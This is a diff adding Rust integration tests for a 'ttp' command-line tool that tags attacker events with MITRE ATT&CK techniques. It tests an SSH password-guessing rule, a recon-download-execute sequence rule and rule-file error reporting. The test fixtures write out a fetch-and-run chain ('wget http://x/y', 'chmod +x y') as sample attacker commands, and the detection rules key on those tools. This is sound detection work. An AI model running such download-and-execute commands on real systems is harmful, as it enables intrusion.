@@ -1,0 +1,194 @@
+//! Correlation rules through the real binary: `ttp tag` into a real SQLite
+//! file, `ttp check` for located diagnostics.
+
+use std::io::Write;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+const GUESSING: &str = "rule_id: TTP-C001
+rule_version: 1
+name: ssh password guessing
+applies_to: [auth_attempt]
+correlate:
+  type: event_count
+  match: {all: [{field: success, equals: false}]}
+  group_by: [attacker_uuid]
+  window: 5m
+  condition: {gte: 10}
+emits: [{tactic: TA0006, technique_id: T1110, sub_technique_id: T1110.001, confidence: 0.8}]
+";
+
+fn write_rules(dir: &Path, files: &[(&str, &str)]) {
+    std::fs::create_dir_all(dir).unwrap();
+    for (name, text) in files {
+        std::fs::write(dir.join(name), text).unwrap();
+    }
+}
+
+/// `ttp tag` of `events` (JSON lines) with `rules` into `db`.
+fn tag(rules: &Path, db: &Path, events: &[String]) {
+    let mut c = Command::new(env!("CARGO_BIN_EXE_ttp"))
+        .args(["tag", "--rules"])
+        .arg(rules)
+        .arg("--db")
+        .arg(db)
+        .env("TTP_LOG", "error")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    c.stdin
+        .take()
+        .unwrap()
+        .write_all(events.join("\n").as_bytes())
+        .unwrap();
+    assert!(c.wait().unwrap().success());
+}
+
+fn attempt(i: usize, attacker: &str, success: bool, seconds: usize) -> String {
+    serde_json::json!({
+        "source_kind": "auth_attempt", "source_id": format!("{attacker}-{i}"),
+        "attacker_uuid": attacker,
+        "payload": {"success": success, "username": "root",
+                    "ts": format!("2026-11-20T08:{:02}:{:02}Z", seconds / 60, seconds % 60)},
+    })
+    .to_string()
+}
+
+fn rows(db: &Path) -> Vec<(String, String, String, i64)> {
+    let conn = rusqlite::Connection::open(db).unwrap();
+    let mut stmt = conn
+        .prepare(
+            "SELECT attacker_uuid, sub_technique_id, evidence, \
+             json_extract(evidence, '$.count') FROM ttp_tag WHERE source_kind = 'correlation' \
+             ORDER BY source_id",
+        )
+        .unwrap();
+    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect()
+}
+
+#[test]
+fn ten_failed_attempts_in_five_minutes_make_one_tag_and_a_replay_none() {
+    let work = tempfile::TempDir::new().unwrap();
+    let rules = work.path().join("rules");
+    write_rules(&rules, &[("c001.yaml", GUESSING)]);
+    let db = work.path().join("t.db");
+    let mut events = Vec::new();
+    // att-1: ten failures 20 s apart (and a success among them, not
+    // counted); att-2: nine failures; att-3: ten failures over 15 minutes.
+    for i in 0..10 {
+        events.push(attempt(i, "att-1", false, i * 20));
+        if i == 4 {
+            events.push(attempt(100, "att-1", true, 85));
+        }
+    }
+    for i in 0..9 {
+        events.push(attempt(i, "att-2", false, i * 20));
+    }
+    for i in 0..10 {
+        events.push(attempt(i, "att-3", false, i * 100));
+    }
+    tag(&rules, &db, &events);
+    let got = rows(&db);
+    assert_eq!(got.len(), 1, "{got:?}");
+    let (attacker, sub, evidence, count) = &got[0];
+    assert_eq!(attacker, "att-1");
+    assert_eq!(sub, "T1110.001");
+    assert_eq!(*count, 10);
+    let ev: serde_json::Value = serde_json::from_str(evidence).unwrap();
+    assert_eq!(ev["window_start"], "2026-11-20T08:00:00Z");
+    assert_eq!(ev["window_end"], "2026-11-20T08:03:00Z");
+    assert_eq!(ev["source_ids"].as_array().unwrap().len(), 10);
+    assert_eq!(ev["source_ids"][0], "att-1-0");
+    // The same events again: the tag's UUID comes from the rule, the group
+    // and the window start, so nothing is added.
+    tag(&rules, &db, &events);
+    assert_eq!(rows(&db), got);
+}
+
+#[test]
+fn a_sequence_of_other_rules_in_one_session() {
+    let work = tempfile::TempDir::new().unwrap();
+    let rules = work.path().join("rules");
+    let single = |id: &str, word: &str, technique: &str| {
+        format!(
+            "rule_id: {id}\nrule_version: 1\nname: {id}\napplies_to: [command]\n\
+             match: {{field: command_text, contains: {word}}}\n\
+             emits: [{{tactic: TA0002, technique_id: {technique}, confidence: 0.5}}]\n"
+        )
+    };
+    write_rules(
+        &rules,
+        &[
+            ("recon.yaml", &single("T-RECON", "uname", "T1082")),
+            ("fetch.yaml", &single("T-FETCH", "wget", "T1105")),
+            ("exec.yaml", &single("T-EXEC", "chmod", "T1059")),
+            (
+                "chain.yaml",
+                "rule_id: TTP-C010\nrule_version: 1\nname: recon, download, execute\n\
+                 applies_to: [command]\ncorrelate:\n  type: temporal_ordered\n  \
+                 rules: [T-RECON, T-FETCH, T-EXEC]\n  group_by: [session_id]\n  window: 10m\n\
+                 emits: [{tactic: TA0002, technique_id: T1059, confidence: 0.7}]\n",
+            ),
+        ],
+    );
+    let cmd = |session: &str, i: usize, text: &str| {
+        serde_json::json!({
+            "source_kind": "command", "source_id": format!("{session}-{i}"),
+            "attacker_uuid": "att-9", "session_id": session,
+            "payload": {"command_text": text, "ts": 1_795_161_600 + i * 30},
+        })
+        .to_string()
+    };
+    let db = work.path().join("t.db");
+    tag(
+        &rules,
+        &db,
+        &[
+            // In order in s1; out of order in s2.
+            cmd("s1", 0, "uname -a"),
+            cmd("s1", 1, "wget http://x/y"),
+            cmd("s1", 2, "chmod +x y"),
+            cmd("s2", 0, "chmod +x y"),
+            cmd("s2", 1, "wget http://x/y"),
+            cmd("s2", 2, "uname -a"),
+        ],
+    );
+    let conn = rusqlite::Connection::open(&db).unwrap();
+    let sessions: Vec<String> = conn
+        .prepare("SELECT session_id FROM ttp_tag WHERE rule_id = 'TTP-C010'")
+        .unwrap()
+        .query_map([], |r| r.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    assert_eq!(sessions, ["s1"]);
+}
+
+#[test]
+fn a_broken_correlation_is_reported_at_its_place() {
+    let work = tempfile::TempDir::new().unwrap();
+    let rules = work.path().join("rules");
+    write_rules(
+        &rules,
+        &[(
+            "bad.yaml",
+            &GUESSING.replace("window: 5m", "window: five minutes"),
+        )],
+    );
+    let out = Command::new(env!("CARGO_BIN_EXE_ttp"))
+        .args(["check", "--rules"])
+        .arg(&rules)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let text =
+        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
+    assert!(
+        text.contains("bad.yaml:9:11") && text.contains("`window` must be a duration"),
+        "{text}"
+    );
+}
